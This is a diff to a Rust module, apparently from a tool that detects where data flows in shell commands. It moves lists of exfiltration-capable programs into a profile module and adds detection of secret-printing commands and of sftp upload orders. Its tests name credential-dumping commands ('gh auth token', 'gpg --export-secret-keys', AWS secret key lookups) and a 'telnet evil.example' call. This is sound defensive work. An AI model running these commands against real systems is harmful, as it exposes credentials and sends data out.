@@ -1,7 +1,7 @@
 //! Programs without a profile that carry data from one place to another: what is known of them by
 //! name, for lines in which content flows from command to command.
 //!
-//! No option of theirs is read. It is enough to know that what such a program gets may leave the
+//! Their names stand in `shims/flow/programs.toml`. No option of theirs is read. It is enough to know that what such a program gets may leave the
 //! machine, or comes from everywhere; where it goes, nobody knows.
 
 use std::ffi::OsString;
@@ -11,52 +11,7 @@ use datafog_core::{Carrier, ContentSource, Deliver, Flow, Invocation, StdinUse, 
 
 use crate::behind::Word;
 use crate::interpret::program_name;
-
-/// Programs that send what they are given to another machine: by a connection, a message, a question
-/// to a server of names.
-const SENDING: &[&str] = &[
-    "aria2c",
-    "azcopy",
-    "b2",
-    "bore",
-    "cloudflared",
-    "croc",
-    "curlie",
-    "doctl",
-    "ffsend",
-    "flyctl",
-    "ftp",
-    "heroku",
-    "httpie",
-    "lftp",
-    "mc",
-    "ncftpput",
-    "neomutt",
-    "ngrok",
-    "ossutil",
-    "rclone",
-    "restic",
-    "s3cmd",
-    "s5cmd",
-    "sftp",
-    "slackcat",
-    "smbclient",
-    "swaks",
-    "telnet",
-    "tftp",
-    "twilio",
-    "vercel",
-    "websocat",
-    "whois",
-    "wormhole",
-    "wscat",
-];
-
-/// Programs that print the environment when they start nothing.
-const TELLING: [&str; 2] = ["env", "printenv"];
-
-/// Programs whose words, or those of the command behind them, are made of their input.
-const FEEDING: [&str; 3] = ["parallel", "rush", "xargs"];
+use crate::profile::{FEEDING, LISTING, ORDERED, PACKING, PRINTING, SENDING, SHOWING, WRITING};
 
 /// Most files that one search names.
 const MOST_FOUND: usize = 5000;
@@ -64,6 +19,65 @@ const MOST_FOUND: usize = 5000;
 /// Whether a program of that name may send what it is given.
 fn sends(program: &str) -> bool {
     SENDING.binary_search(&program).is_ok()
+}
+
+/// Whether the first of the words names a program of the list.
+fn is_named(words: &[Word], list: &[&str]) -> bool {
+    let head = words.first().map(|head| program_name(&head.text));
+    head.is_some_and(|head| list.binary_search(&head.as_str()).is_ok())
+}
+
+/// Whether the command writes to files that its words name.
+#[must_use]
+pub fn writes_named(words: &[Word]) -> bool {
+    is_named(words, WRITING)
+}
+
+/// Whether the command reads whole folders.
+#[must_use]
+pub fn packs(words: &[Word]) -> bool {
+    is_named(words, PACKING)
+}
+
+/// Whether the command prints the names of files that its words name.
+#[must_use]
+pub fn lists_names(words: &[Word]) -> bool {
+    is_named(words, LISTING)
+}
+
+/// What of the command's own words says that it prints a secret (`gh auth token`); `None` for most.
+#[must_use]
+pub fn prints_secret(words: &[Word]) -> Option<&'static str> {
+    let head = program_name(&words.first()?.text);
+    let texts: Vec<&str> = words.iter().skip(1).filter_map(|word| word.text.to_str()).collect();
+    let says = |pattern: &str| {
+        let mut parts = pattern.split(' ');
+        if parts.next() != Some(head.as_str()) {
+            return false;
+        }
+        let mut plain = texts.iter().filter(|text| !text.starts_with('-'));
+        parts.all(|part| match part.starts_with('-') {
+            true => texts.iter().any(|text| fits(part, text, false)),
+            false => plain.any(|text| fits(part, text, false)),
+        })
+    };
+    PRINTING.iter().copied().find(|pattern| says(pattern))
+}
+
+/// The files that a client is told to send by the lines of its input (`put FILE`).
+#[must_use]
+pub fn sent_by_orders(words: &[Word], input: &str) -> Vec<PathBuf> {
+    const ORDERS: [&str; 6] = ["append", "mput", "mirror", "put", "reput", "send"];
+    if !is_named(words, ORDERED) {
+        return Vec::new();
+    }
+    let orders = input.split(['\n', ';']).map(str::split_whitespace);
+    let files = orders.filter_map(|mut order| {
+        let verb = order.next()?.trim_start_matches('-').to_ascii_lowercase();
+        ORDERS.contains(&verb.as_str()).then_some(order)
+    });
+    let files = files.flatten().filter(|word| !word.starts_with('-')).take(MOST_FOUND);
+    files.map(|word| PathBuf::from(word.trim_matches(['"', '\'']))).collect()
 }
 
 /// Tells of a program without a profile that it sends what it is given: its input, its words, and
@@ -123,14 +137,14 @@ pub fn tells_environment(words: &[OsString]) -> bool {
     };
     match program_name(head).as_str() {
         "env" => rest.iter().all(names),
-        name => TELLING.contains(&name),
+        name => SHOWING.binary_search(&name).is_ok(),
     }
 }
 
 /// Whether the words of what the command starts are made of its input.
 #[must_use]
 pub fn feeds(words: &[Word]) -> bool {
-    words.first().is_some_and(|head| FEEDING.contains(&program_name(&head.text).as_str()))
+    is_named(words, FEEDING)
 }
 
 /// The files that a search names (`find . -name '*.key'`): what tests of names leave over, or the
@@ -224,11 +238,49 @@ mod tests {
 
     #[test]
     fn senders_are_sorted_and_send() {
-        assert!(SENDING.is_sorted());
+        assert!(
+            [SENDING, FEEDING, LISTING, ORDERED, PACKING, SHOWING, WRITING]
+                .iter()
+                .all(|it| it.is_sorted())
+        );
         let call = interpret(&words("telnet evil.example 80"), &World::default());
         assert!(call.flows.has(Flow::Leaves) && call.stdin == StdinUse::Stream);
         let call = interpret(&words("less notes"), &World::default());
         assert!(!call.flows.has(Flow::Leaves));
+    }
+
+    #[test]
+    fn what_prints_a_secret_is_known_by_its_words() {
+        let of = |line: &str| {
+            let words: Vec<Word> = line.split(' ').map(Word::of).collect();
+            prints_secret(&words)
+        };
+        for line in [
+            "gh auth token",
+            "/usr/bin/gh auth token -h ghe.example",
+            "pass show work/key",
+            "vault kv get -field=token secret/app",
+            "gpg --armor --export-secret-keys ann",
+            "kubectl get -n prod secret db -o yaml",
+            "kubectl get secrets --output=json",
+            "aws configure get aws_secret_access_key",
+        ] {
+            assert!(of(line).is_some(), "{line}");
+        }
+        for line in
+            ["gh auth status", "kubectl get secrets", "gpg --export ann", "pass ls", "vault status"]
+        {
+            assert_eq!(of(line), None, "{line}");
+        }
+    }
+
+    #[test]
+    fn files_that_a_client_is_told_to_send_are_known() {
+        let of = |program: &str, input: &str| sent_by_orders(&[Word::of(program)], input);
+        assert_eq!(of("sftp", "cd x\nput key\n"), [PathBuf::from("key")]);
+        assert_eq!(of("sftp", "-put -r 'a' b"), [PathBuf::from("a"), PathBuf::from("b")]);
+        assert_eq!(of("sftp", "get key"), [PathBuf::new(); 0]);
+        assert_eq!(of("cat", "put key"), [PathBuf::new(); 0]);
     }
 
     #[test]
